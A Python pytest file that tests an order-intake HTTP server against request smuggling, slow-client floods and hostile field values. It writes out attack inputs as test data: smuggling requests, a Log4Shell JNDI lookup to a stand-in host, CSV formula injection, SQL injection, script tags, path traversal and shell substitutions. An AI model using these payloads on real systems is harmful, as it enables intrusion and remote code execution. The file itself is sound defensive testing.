"""Requests that nobody sends by accident: read in two ways, slow, twice at once, or with names that bite later."""

# ruff: noqa: RUF001  names in their own scripts

from __future__ import annotations

import contextlib
import json
import re
import select
import socket
import threading
import time
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator

import nacl.public
import pytest

from tests.intake.answers import problem, stored
from tests.intake.node import Node
from tests.intake.orders import good_order, new_key
from transfer.wire.envelope import decode_envelope
from transfer.wire.order import Order, decode_order_compartment

NewNode = Callable[[], Node]
BODY = json.dumps(good_order()).encode()
CHUNKED = b"%x\r\n%b\r\n0\r\n\r\n" % (len(BODY), BODY)
_STATUS = re.compile(rb"HTTP/1\.[01] (\d\d\d)")


def head(
    *more: str,
    line: str = "POST /orders HTTP/1.1",
    host: str = "Host: localhost",
    length: bool = True,
    key: str = "",
) -> bytes:
    lines = [line, host, "Content-Type: application/json", f"Idempotency-Key: {key or new_key()}", *more]
    if length:
        lines.append(f"Content-Length: {len(BODY)}")
    return "\r\n".join(filter(None, lines)).encode("latin-1") + b"\r\n\r\n"


def exchange(node: Node, request: bytes, *, answers: int = 1) -> tuple[list[int], bytes, bool]:
    """Every status that came, all bytes, and whether the server closed the connection (waits 0.3 s for it)."""
    received = b""
    with socket.create_connection(("127.0.0.1", node.port), timeout=5) as connection:
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            connection.sendall(request)
        is_closed = False
        with contextlib.suppress(TimeoutError):
            while True:
                if len(_STATUS.findall(received)) >= answers:
                    connection.settimeout(0.3)
                try:
                    chunk = connection.recv(65_536)
                except ConnectionResetError:
                    chunk = b""
                if not chunk:
                    is_closed = True
                    break
                received += chunk
    return [int(status) for status in _STATUS.findall(received)], received, is_closed


CHUNKS = "Transfer-Encoding: chunked"
# What is sent; the statuses of all answers; how many orders are taken. A 400 ends the connection, always.
ODDITIES: dict[str, tuple[bytes, list[int], int]] = {
    "length and chunks": (head(CHUNKS) + CHUNKED, [202], 1),
    "chunks, and a length that hides a second request": (
        head(CHUNKS, "Content-Length: 4", length=False) + b"0\r\n\r\n" + head() + BODY,
        [400],
        0,
    ),
    "two lengths that differ": (head("Content-Length: 3") + BODY, [400], 0),
    "a list of lengths": (head(f"Content-Length: {len(BODY)}, {len(BODY)}", length=False) + BODY, [400], 0),
    "a length with a sign": (head(f"Content-Length: +{len(BODY)}", length=False) + BODY, [400], 0),
    "a negative length": (head("Content-Length: -1", length=False) + BODY, [400], 0),
    "a hexadecimal length": (head("Content-Length: 0x10", length=False) + BODY, [400], 0),
    "an unknown coding": (head("Transfer-Encoding: xchunked", length=False) + CHUNKED, [400], 0),
    "chunks that are not last": (
        head("Transfer-Encoding: chunked, identity", length=False) + CHUNKED,
        [400],
        0,
    ),
    "chunks twice": (head(CHUNKS, CHUNKS, length=False) + CHUNKED, [400], 0),
    "a space before the colon": (head("Transfer-Encoding : chunked", length=False) + CHUNKED, [400], 0),
    "a folded line": (head("X-A: b\r\n c") + BODY, [400], 0),
    "a NUL": (head("X-A: b\0c") + BODY, [400], 0),
    "a bare carriage return": (head("X-A: b\rX-B: c") + BODY, [400], 0),
    "no colon": (head("XA") + BODY, [400], 0),
    "a chunk of no size": (head(CHUNKS, length=False) + b"zz\r\n" + BODY, [400], 0),
    "a chunk of 2**72": (head(CHUNKS, length=False) + b"f" * 18 + b"\r\n" + BODY, [400], 0),
    "a chunk's extension and a trailer": (
        head(CHUNKS, length=False)
        + b"%x;a=b\r\n%b\r\n0\r\nIdempotency-Key: %b\r\n\r\n" % (len(BODY), BODY, b"z" * 22),
        [202],
        1,
    ),
    "two hosts": (head(host="Host: localhost\r\nHost: y") + BODY, [400], 0),
    "another site's address": (head(line="POST http://evil.example/orders HTTP/1.1") + BODY, [202], 1),
    "HTTP/1.0": (head(line="POST /orders HTTP/1.0") + BODY, [202], 1),
    "HTTP/1.2": (head(line="POST /orders HTTP/1.2") + BODY, [400], 0),
    "HTTP/0.9": (b"GET /livez\r\n", [400], 0),
    "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", [], 0),
    "a tunnel": (b"CONNECT evil.example:80 HTTP/1.1\r\nHost: localhost\r\n\r\n", [404], 0),
    "an asterisk": (b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n", [404], 0),
    "two slashes": (head(line="POST //orders HTTP/1.1") + BODY, [404], 0),
    "an escaped slash": (head(line="POST /orders%2f HTTP/1.1") + BODY, [404], 0),
    "a way up": (head(line="POST /x/../orders HTTP/1.1") + BODY, [404], 0),
    "capitals": (head(line="POST /ORDERS HTTP/1.1") + BODY, [404], 0),
    "a head of 200 KB": (head("X-A: " + "a" * 200_000) + BODY, [431], 0),
    "500 headers": (head(*(f"X-{number}: 1" for number in range(500))) + BODY, [431], 0),
    "a wish to go on": (head("Expect: 100-continue") + BODY, [100, 202], 1),
    "two orders at once": (head() + BODY + head() + BODY, [202, 202], 2),
    "another protocol": (head("Connection: Upgrade", "Upgrade: h2c") + BODY, [202], 1),
}


@pytest.mark.parametrize("name", ODDITIES)
def test_a_request_is_read_in_one_way_or_refused(node: Node, name: str) -> None:
    request, expected, orders = ODDITIES[name]
    before = len(stored(node))
    statuses, received, is_closed = exchange(node, request, answers=len(expected))
    assert statuses == expected
    assert len(stored(node)) - before == orders
    assert is_closed or not {400, 431} & set(statuses)
    assert is_closed or name not in {"length and chunks", "HTTP/1.0"}
    assert b"evil.example" not in received
    assert (b"INTAKE-HTTP" in received) == (name in {"two hosts", "chunks twice"})


def test_nothing_that_was_sent_comes_back(node: Node) -> None:
    _, received, _ = exchange(
        node, b"TRACE /orders HTTP/1.1\r\nHost: localhost\r\nX-Secret: 4242424242424242\r\n\r\n"
    )
    assert b"INTAKE-METHOD" in received
    assert b"4242" not in received


@contextlib.contextmanager
def slow_clients(node: Node, count: int, begin: bytes) -> Iterator[list[socket.socket]]:
    """Connections that began a request and send no more than a byte now and then."""
    connections = []
    for _ in range(count):
        connection = socket.create_connection(("127.0.0.1", node.port), timeout=30)
        connection.sendall(begin)
        connections.append(connection)
    yield connections
    for connection in connections:
        connection.close()


def test_slow_clients_hold_up_nobody_and_are_given_up(node: Node) -> None:
    before = len(stored(node))
    with (
        slow_clients(node, 150, b"POST /orders HTTP/1.1\r\nHost: localhost\r\nX-A: ") as in_head,
        slow_clients(node, 150, head() + BODY[:10]) as in_body,
    ):
        started = time.monotonic()
        for _ in range(10):
            assert node.post(good_order(), new_key()).status == 202
        assert time.monotonic() - started < 5
        for connection in (in_head[0], in_body[0]):
            connection.sendall(b"a")
        assert in_head[0].recv(4096)[:12] in (b"", b"HTTP/1.1 408")
        answer = in_body[0].recv(4096)
        assert answer.startswith(b"HTTP/1.1 408")
        assert b"INTAKE-TOO-SLOW" in answer
        assert 9 < time.monotonic() - started < 29
    assert len(stored(node)) == before + 10


def test_one_address_that_sends_slowly_shuts_nobody_out(node: Node) -> None:
    def order(address: str) -> int:
        return node.post(good_order(), new_key(), **{"X-Forwarded-For": address}).status

    with slow_clients(node, 40, head("X-Forwarded-For: 198.51.100.20") + BODY[:10]) as connections:
        end = time.monotonic() + 10
        answered: list[socket.socket] = []
        while len(answered) < 8 and time.monotonic() < end:  # all have come when those too many were told
            answered, _, _ = select.select(connections, [], [], 0.1)
        assert [connection.recv(4096)[:12] for connection in answered] == [b"HTTP/1.1 429"] * 8
        assert order("198.51.100.20") == 429
        assert order("198.51.100.21") == 202
    end = time.monotonic() + 5
    while order("198.51.100.20") != 202 and time.monotonic() < end:
        time.sleep(0.05)
    assert order("198.51.100.20") == 202


def test_one_network_that_sends_slowly_from_many_addresses_shuts_nobody_out(node: Node) -> None:
    def order(address: str) -> int:
        return node.post(good_order(), new_key(), **{"X-Forwarded-For": address}).status

    with contextlib.ExitStack() as stack:
        connections = [
            connection
            for home in range(5)  # none of them has 32 under way
            for connection in stack.enter_context(
                slow_clients(node, 28, head(f"X-Forwarded-For: 2001:db8:5:{home}::1") + BODY[:10])
            )
        ]
        end = time.monotonic() + 10
        answered: list[socket.socket] = []
        while len(answered) < 12 and time.monotonic() < end:
            answered, _, _ = select.select(connections, [], [], 0.1)
        assert [connection.recv(4096)[:12] for connection in answered] == [b"HTTP/1.1 429"] * 12
        assert order("2001:db8:5:ffff::1") == 429
        assert order("2001:db8:6::1") == 202
    end = time.monotonic() + 5
    while order("2001:db8:5:ffff::1") != 202 and time.monotonic() < end:
        time.sleep(0.05)
    assert order("2001:db8:5:ffff::1") == 202


def test_one_key_sent_at_once_with_two_baskets_is_one_order(new_node: NewNode) -> None:
    node = new_node().configure(workers=2).enrol().start()
    other = good_order()
    other["items"] = [{"sku": "LP-0001", "quantity": 1}]
    other["total"]["amount"] = 2499
    keys = [new_key() for _ in range(12)]
    seen: dict[str, Counter[tuple[str, int]]] = {key: Counter() for key in keys}
    lock = threading.Lock()

    def client(name: str, order: object) -> None:
        for key in keys:
            status = node.post(order, key).status
            with lock:
                seen[key][name, status] += 1

    threads = [
        threading.Thread(target=client, args=pair)
        for pair in [("first", good_order()), ("second", other)] * 4
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for counts in seen.values():
        # Whichever basket came first has all its answers 202, the other none.
        assert counts in (
            Counter({("first", 202): 4, ("second", 422): 4}),
            Counter({("first", 422): 4, ("second", 202): 4}),
        )
    assert len(stored(node)) == len(keys)


def opened(node: Node, order_id: str) -> Order:
    envelope = decode_envelope(stored(node)[order_id])
    return decode_order_compartment(nacl.public.SealedBox(node.offline.order_key).decrypt(envelope.order_box))


@pytest.mark.parametrize(
    "name",
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+49 30 1234",
        "-2+3",
        '"; DROP TABLE orders; --',
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}} %s %n %x",
        "../../etc/passwd",
        'O\'Neil, "Zoë"; $(reboot) `id`',
        "١٢٣ محمد عبد الله",
        "क्\u200dष می\u200cخواهم",
        "Ａｌｉｃｅ 𝔅𝔬𝔟 🎶",
        "Z\u0351\u036b\u0343a\u0321l\u0321g\u0321o",
    ],
)
def test_a_name_that_may_bite_later_is_kept_as_it_is(node: Node, name: str) -> None:
    """Who writes it into a CSV or onto a label defuses it there; intake alters nobody's name."""
    order = good_order()
    order["customer"]["name"] = order["delivery"]["city"] = name
    order["delivery"]["lines"] = [name, name]
    answer = node.post(order, new_key())
    assert answer.status == 202
    kept = opened(node, answer.json["order_id"])
    assert kept.customer.name == kept.delivery.city == unicodedata.normalize("NFC", name)
    assert kept.delivery.lines == [kept.customer.name] * 2


@pytest.mark.parametrize(
    "character",
    [
        "\0",
        "\t",
        "\n",
        "\r",
        "\x07",
        "\x1b[2J",
        "\x7f",
        "\x85",
        "\x9b",
        "\u2028",
        "\u2029",
        "\u202e",
        "\u2066",
        "\u2069",
    ],
)
@pytest.mark.parametrize(
    "pointer", ["/customer/name", "/delivery/city", "/delivery/postcode", "/delivery/lines/0"]
)
def test_what_can_drive_a_reader_of_a_name_is_refused_by_field(
    node: Node, character: str, pointer: str
) -> None:
    order = good_order()
    _, section, field, *place = pointer.split("/")
    value = f"A{character}b"
    order[section][field] = [value] if place else value
    document = problem(node.post(order, new_key()), 422, "INTAKE-FIELDS")
    assert [fault["pointer"] for fault in document["errors"]] == [pointer]
    assert value not in json.dumps(document, ensure_ascii=False)
